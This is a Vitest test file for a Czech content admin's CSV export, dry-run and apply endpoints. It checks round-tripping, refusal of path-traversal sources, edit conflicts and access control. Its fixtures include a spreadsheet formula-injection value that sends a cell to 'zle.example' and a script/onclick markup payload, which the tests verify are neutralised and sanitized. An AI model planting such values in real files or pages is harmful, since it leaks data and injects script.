import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { eq } from 'drizzle-orm';
import { auditLog, contentDraft } from '../../../src/server/db/schema.js';
import { createTestApp, type TestApp } from '../../support/test-app.js';
import { adminClient, adminSession, type AdminClient } from '../../support/admin.js';
import { bearer, memberSession } from '../../support/api.js';
import { czechDetailProblem } from '../../support/czech-detail.js';

const CSV = '/content/csv';
const HOSTILE = [
  'Příliš žluťoučký kůň úpěl ďábelské ódy',
  'Řekl: "Ano, ale…"; pak odešel.\nDruhý řádek\r\ntřetí',
  '=HYPERLINK("http://zle.example/?x="&A1,"Klikněte")',
  '-1 bod, @všichni',
  "'apostrof na začátku",
];

type Change = { source: string; key: string; lng: 'cs' | 'en'; old: string | null; new: string };

describe('texts as CSV: export, dry run, apply', () => {
  let t: TestApp;
  let author: AdminClient;
  let admin: AdminClient;

  beforeAll(async () => {
    t = await createTestApp();
    admin = await adminSession(t.app);
    author = adminClient(t.app, (await memberSession(t.app, { role: 'author', modules: [] })).token);
  });
  afterAll(() => t?.close());

  const download = async (sources?: string) => {
    const res = await author.get(`${CSV}${sources ? `?sources=${encodeURIComponent(sources)}` : ''}`);
    expect(res.statusCode, res.body).toBe(200);
    return res;
  };
  const dryRun = async (csv: string) => {
    const res = await author.post(`${CSV}/dry-run`, { csv });
    expect(res.statusCode, res.body).toBe(200);
    return res.json() as {
      changes: Change[];
      refused: Array<{ row: number; source: string; key: string; reason: string }>;
      unchanged: number;
    };
  };
  const draftRows = async () => (await t.app.db.select().from(contentDraft)).map((r) => r.path).sort();
  const text = async (source: string, key: string) =>
    ((await author.get(`/content/texts?${source}`)).json().rows as Array<{ key: string; cs: string | null; en: string | null }>).find(
      (r) => r.key === key,
    )!;
  /** The exported file edited as a spreadsheet would: the cells of one row replaced. */
  const edited = (csv: string, edits: Array<{ source: string; key: string; cs?: string; en?: string }>) => {
    const { data } = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    for (const e of edits) {
      const row = data.find((r) => r[0] === e.source && r[1] === e.key)!;
      if (e.cs !== undefined) row[2] = e.cs;
      if (e.en !== undefined) row[3] = e.en;
    }
    return `\uFEFF${Papa.unparse(data)}`;
  };

  it('exports every text, or the sources asked for, as UTF-8 CSV with a BOM for spreadsheets', async () => {
    const all = await download();
    expect(all.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(all.headers['content-disposition']).toMatch(/^attachment; filename="texty-obsahu-v\d+\.csv"$/);
    expect(all.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(all.body).toMatch(/^\uFEFFsource,key,cs,en\r\n/);
    expect(all.body).toContain('variant:general,display_name,Obecná varianta,');
    expect(all.body).toContain('\r\nsteps/people,team_goals.title,');
    expect(all.body).toContain('\r\nvariants/general,');

    const some = await download('variant:general,steps/people');
    const sources = new Set(
      Papa.parse<string[]>(some.body.slice(1), { skipEmptyLines: true })
        .data.slice(1)
        .map((r) => r[0]),
    );
    expect([...sources]).toEqual(['variant:general', 'steps/people']);
    expect((await author.get(`${CSV}?sources=steps/nic`)).statusCode).toBe(404);
    for (const bad of ['../api', 'steps/people,,', 'variant:../x', 'api/x'])
      expect((await author.get(`${CSV}?sources=${encodeURIComponent(bad)}`)).statusCode, bad).toBe(422);
  });

  it('an unchanged export reads back as no change at all, and the dry run stores nothing', async () => {
    const csv = (await download()).body;
    const before = await draftRows();
    const plan = await dryRun(csv);
    expect(plan.changes).toEqual([]);
    expect(plan.refused).toEqual([]);
    expect(plan.unchanged).toBeGreaterThan(100);
    expect(await draftRows()).toEqual(before);
  });

  it('round-trips Czech diacritics and hostile text exactly, neutralised against formulas in the file', async () => {
    const titles = await text('namespace=steps/people', 'team_goals.title');
    const csv = edited((await download('steps/people,variant:general')).body, [
      { source: 'steps/people', key: 'team_goals.title', cs: HOSTILE.join(' | '), en: HOSTILE[2] },
      { source: 'steps/people', key: 'team_goals.subtitle', cs: HOSTILE[1], en: HOSTILE[4] },
      { source: 'variant:general', key: 'display_name', cs: HOSTILE[3] },
      // Markup is stored sanitized, as a text saved in the studio.
      {
        source: 'steps/people',
        key: 'team_goals.tips.title',
        cs: '<p onclick="x()">Popis <script>alert(1)</script><strong>tučně</strong></p>',
      },
    ]);
    const plan = await dryRun(csv);
    expect(plan.refused).toEqual([]);
    expect(plan.changes).toContainEqual({
      source: 'steps/people',
      key: 'team_goals.title',
      lng: 'cs',
      old: titles.cs,
      new: HOSTILE.join(' | '),
    });
    expect(plan.changes).toContainEqual(
      expect.objectContaining({ key: 'team_goals.tips.title', new: '<p>Popis <strong>tučně</strong></p>' }),
    );
    expect(plan.changes).toHaveLength(6);
    expect(await draftRows()).toEqual([]);

    const applied = await author.post(`${CSV}/apply`, { changes: plan.changes });
    expect(applied.statusCode, applied.body).toBe(200);
    expect(applied.json()).toEqual({ message: 'Do konceptu bylo uloženo 6 textů.', applied: 6, conflicts: [] });
    expect(await text('namespace=steps/people', 'team_goals.title')).toMatchObject({
      cs: HOSTILE.join(' | '),
      en: HOSTILE[2],
      state: 'ok',
    });
    expect((await text('namespace=steps/people', 'team_goals.subtitle')).cs).toBe(HOSTILE[1]);
    expect((await text('variant=general', 'display_name')).cs).toBe(HOSTILE[3]);
    // Each text written is in the audit trail, as a text saved in the table is.
    const trail = await t.app.db
      .select({ target: auditLog.target_id, before: auditLog.before, after: auditLog.after })
      .from(auditLog)
      .where(eq(auditLog.action, 'content.text'));
    expect(trail).toHaveLength(6);
    expect(trail).toContainEqual({
      target: 'steps/people#team_goals.title',
      before: { text: titles.cs },
      after: { text: HOSTILE.join(' | ') },
    });

    // The export neutralises the formula, and reads back as exactly what is stored.
    const again = (await download('steps/people,variant:general')).body;
    expect(again).toContain(`"'=HYPERLINK(""http://zle.example/?x=""&A1,""Klikněte"")"`);
    expect(again).toContain(`"'-1 bod, @všichni"`);
    expect(again).toContain(`''apostrof na začátku`);
    expect(again).not.toContain('<script>');
    expect((await dryRun(again)).changes).toEqual([]);
  });

  it('refuses a bad header, unknown sources and keys, English in a variant file, rows of the wrong shape', async () => {
    expect(await dryRun('klic;text\nx;y\n')).toEqual({
      changes: [],
      refused: [{ row: 1, source: '', key: '', reason: 'První řádek souboru musí být záhlaví source, key, cs, en. Soubor nebyl načten.' }],
      unchanged: 0,
    });
    const plan = await dryRun(
      [
        'source,key,cs,en',
        'steps/nic,a.b,Text,',
        'steps/people,neni.tu,Text,',
        'variant:general,display_name,Obecná,General',
        'steps/people,team_goals.title,jen tři',
        '../../api,x,y,z',
        'steps/people,team_goals.saveError,Uložení cílů se nepovedlo,',
        'steps/people,team_goals.saveError,Znovu,',
      ].join('\n'),
    );
    expect(plan.refused.map((r) => [r.row, r.reason])).toEqual([
      [5, 'Řádek nemá právě čtyři sloupce (source, key, cs, en).'],
      [2, 'Zdroj textů „steps/nic“ v konceptu není.'],
      [3, 'Text „neni.tu“ v tomto zdroji není.'],
      [4, 'Texty souboru varianty jsou jen české (lng „cs“).'],
      [6, 'Zdroj textů „../../api“ v konceptu není.'],
      [8, 'Text „team_goals.saveError“ je v souboru víckrát; platí jeho první řádek.'],
    ]);
    expect(plan.changes).toEqual([
      {
        source: 'steps/people',
        key: 'team_goals.saveError',
        lng: 'cs',
        old: 'Chyba při ukládání týmových cílů',
        new: 'Uložení cílů se nepovedlo',
      },
    ]);
  });

  it('applies only where the text is still what the dry run read: a text saved since is reported with both values', async () => {
    const title = await text('namespace=steps/people', 'team_goals.title');
    const vision = await text('namespace=steps/people', 'team_vision.title');
    const plan = await dryRun(
      edited((await download('steps/people')).body, [
        { source: 'steps/people', key: 'team_goals.title', cs: 'Z importu' },
        { source: 'steps/people', key: 'team_vision.title', cs: 'Vize z importu' },
      ]),
    );
    expect(plan.changes).toHaveLength(2);
    // Another author saves one of them after the dry run.
    const saved = await admin.put('/content/texts', {
      namespace: 'steps/people',
      key: 'team_goals.title',
      lng: 'cs',
      value: 'Mezitím',
      base: title.cs,
    });
    expect(saved.statusCode).toBe(200);
    const res = await author.post(`${CSV}/apply`, { changes: plan.changes });
    expect(res.json()).toEqual({
      message: 'Do konceptu byl uložen 1 text.',
      applied: 1,
      conflicts: [{ source: 'steps/people', key: 'team_goals.title', lng: 'cs', yours: 'Z importu', theirs: 'Mezitím' }],
    });
    expect((await text('namespace=steps/people', 'team_goals.title')).cs).toBe('Mezitím');
    expect((await text('namespace=steps/people', 'team_vision.title')).cs).toBe('Vize z importu');
    expect(vision.cs).not.toBe('Vize z importu');

    // A made-up change names nothing the draft has: reported, and no file appears in the draft for it.
    const before = await draftRows();
    const made = await author.post(`${CSV}/apply`, {
      changes: [
        { source: 'steps/nic', key: 'a', lng: 'en', old: null, new: 'x' },
        { source: 'variant:nic', key: 'display_name', lng: 'cs', old: null, new: 'x' },
      ],
    });
    expect(made.json().applied).toBe(0);
    expect(made.json().conflicts).toHaveLength(2);
    expect(await draftRows()).toEqual(before);
  });

  it('bounds the upload, and lets only authors and administrators in', async () => {
    const huge = await author.post(`${CSV}/dry-run`, { csv: 'x'.repeat(500_001) });
    expect(huge.statusCode).toBe(422);
    expect(czechDetailProblem(huge)).toBeFalsy();
    expect((await admin.get(CSV)).statusCode).toBe(200);
    const member = await memberSession(t.app, {});
    for (const [method, url] of [
      ['GET', CSV],
      ['POST', `${CSV}/dry-run`],
      ['POST', `${CSV}/apply`],
    ] as const) {
      const payload = method === 'POST' ? { csv: 'source,key,cs,en\n' } : undefined;
      const asMember = await t.app.inject({ method, url: `/api/admin${url}`, headers: bearer(member.token), payload });
      expect(asMember.statusCode, url).toBe(403);
      expect((await t.app.inject({ method, url: `/api/admin${url}`, payload })).statusCode, url).toBe(401);
    }
  });
});
